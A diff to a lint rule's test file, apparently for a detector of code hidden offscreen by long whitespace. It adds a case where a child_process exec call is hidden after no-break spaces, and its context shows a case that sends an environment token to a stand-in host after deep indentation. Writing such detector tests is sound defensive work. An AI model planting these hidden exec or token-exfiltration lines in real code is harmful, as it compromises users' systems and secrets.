@@ -38,6 +38,11 @@ ruleTester(rule, {
       errors: [{ messageId: 'offscreen', line: 2, column: 183, message: 'spaces and tabs' }],
     },
     {
+      name: 'no-break spaces',
+      code: `const a = 1;${'\u00a0'.repeat(160)}require('child_process').exec('id');`,
+      errors: [{ messageId: 'offscreen', line: 1, column: 173, message: 'Unicode spaces' }],
+    },
+    {
       name: 'deep indentation alone',
       code: `const a = 1;\n${' '.repeat(450)}fetch('https://x.example/?d=' + process.env.TOKEN);`,
       errors: [{ messageId: 'offscreen', line: 2, column: 451 }],
